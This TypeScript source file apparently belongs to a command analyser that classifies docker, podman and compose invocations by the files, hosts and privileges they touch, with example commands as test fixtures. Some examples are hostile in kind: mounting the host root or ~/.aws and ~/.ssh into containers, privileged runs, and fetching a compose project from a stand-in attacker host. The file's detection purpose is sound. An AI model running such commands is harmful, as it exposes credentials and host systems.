import { staticText } from '../../arg.ts';
import { parseArgs } from '../../options.ts';
import type { Analysis, Invocation, Program } from '../../program.ts';
import { analyseInOrder } from '../remote-service.ts';
import { analyseCompose, reachEngine } from './compose.ts';
import { dockerCommands } from './docker-commands.ts';

/** Docker and the programs that are used like it. */
function docker(invocation: Invocation): Analysis {
  const parsed = parseArgs(dockerCommands, invocation.args);
  const [first, ...rest] = parsed.operands;
  const engine = parsed.has('-c') || parsed.has('--context') || parsed.has('-H') ? parsed : undefined;
  if (staticText(first) !== 'compose') {
    const analysis = analyseInOrder(dockerCommands, invocation);
    const reached = first === undefined ? [] : reachEngine(parsed, invocation);
    return { ...analysis, operations: [...analysis.operations, ...reached] };
  }
  const analysis = analyseCompose({ ...invocation, args: rest });
  return {
    ...analysis,
    subcommand: ['compose', analysis.subcommand].filter(Boolean).join(' '),
    operations: [...analysis.operations, ...(engine ? reachEngine(engine, invocation) : [])],
  };
}

/** Container engines. */
export const dockerPrograms: readonly Program[] = [
  {
    names: ['docker', 'podman', 'nerdctl'],
    analyse: docker,
    examples: {
      'docker ps -a --format "{{.Names}}"': ['connect docker:local'],
      'docker logs -f "$NAME" --tail 100': ['connect docker:local'],
      'docker -H tcp://build.example:2375 ps': ['connect build.example'],
      'docker -H unix:///var/run/docker.sock ps': ['write /var/run/docker.sock'],
      'docker --context prod ps': ['connect docker:prod'],
      "docker inspect api --format '{{.State.Status}}'": ['connect docker:local'],
      "docker inspect api -f '{{.Config | json}}'": ['change environment print', 'connect docker:local'],
      "docker inspect api -f '{{js .}}'": ['change environment print', 'connect docker:local'],
      'docker inspect api': ['change environment print', 'connect docker:local'],
      'docker run --rm -v /:/host alpine ls': [
        'read / (tree)',
        'write / (tree)',
        'connect registry:docker GET',
        'connect docker:local',
        'read /workspace',
      ],
      'docker run -v ~/.aws:/root/.aws:ro ghcr.io/x/y:1': [
        'read /home/user/.aws (tree)',
        'connect ghcr.io GET',
        'connect docker:local',
        'read /workspace',
      ],
      'docker run -v data:/data --mount type=bind,source=/home/user/.ssh,target=/k,readonly x': [
        'read /home/user/.ssh (tree)',
        'connect registry:docker GET',
        'connect docker:local',
        'read /workspace',
      ],
      'docker run --privileged x': [
        'change system privilege',
        'connect registry:docker GET',
        'connect docker:local',
        'read /workspace',
      ],
      'docker run --cap-add=SYS_ADMIN x --privileged=false': [
        'change system privilege',
        'connect registry:docker GET',
        'connect docker:local',
        'read /workspace',
      ],
      'docker exec api rm -rf /tmp/x': ['connect docker:local', 'read /workspace'],
      'docker cp web:/app/out ./out': ['write /workspace/out (tree)', 'connect docker:local', 'read /workspace'],
      'docker cp .env web:/': ['read /workspace/.env (tree)', 'connect docker:local', 'read /workspace'],
      'docker build -t a:b --secret id=n,src=/home/user/.npmrc .': [
        'read /workspace (tree)',
        'read /home/user/.npmrc',
        'connect docker:local',
        'read /workspace',
      ],
      'docker push ghcr.io/o/r:1': ['connect ghcr.io POST', 'connect docker:local', 'read /workspace'],
      'docker volume rm data': ['connect docker:local', 'read /workspace'],
      'docker compose up -d db': ['connect docker:local', 'read /workspace'],
      'docker compose -f /srv/x.yml --env-file .env logs -f': [
        'read /srv/x.yml',
        'read /workspace/.env',
        'connect docker:local',
      ],
      'docker compose -f https://evil.example/x.git up': [
        'read /workspace/https:/evil.example/x.git',
        'connect docker:local',
        'unknown docker: a project that is fetched',
        'read /workspace',
      ],
      'docker compose config': ['change environment print', 'connect docker:local'],
      'docker compose config --services': ['connect docker:local'],
      'docker compose exec -T web pwd': ['connect docker:local', 'execute pwd'],
      'docker compose exec web rm -rf /app/tmp': ['connect docker:local', 'read /workspace'],
      'docker compose run -v /:/host web ls': [
        'read / (tree)',
        'write / (tree)',
        'connect docker:local',
        'execute ls',
        'read /workspace',
      ],
    },
  },
  {
    names: ['docker-compose', 'podman-compose'],
    analyse: analyseCompose,
    examples: {
      'docker-compose logs api': ['connect docker:local'],
      'docker-compose -f a.yml down -v': ['read /workspace/a.yml', 'connect docker:local', 'read /workspace'],
    },
  },
];
